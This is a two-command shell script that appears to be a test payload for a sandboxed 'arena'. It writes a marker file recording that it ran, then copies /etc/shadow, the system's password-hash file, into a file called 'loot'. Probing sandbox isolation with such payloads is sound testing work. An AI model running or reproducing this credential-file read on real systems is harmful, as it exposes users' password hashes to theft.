#!/bin/sh
: > "$ARENA/ws/ran"
cat /etc/shadow > loot
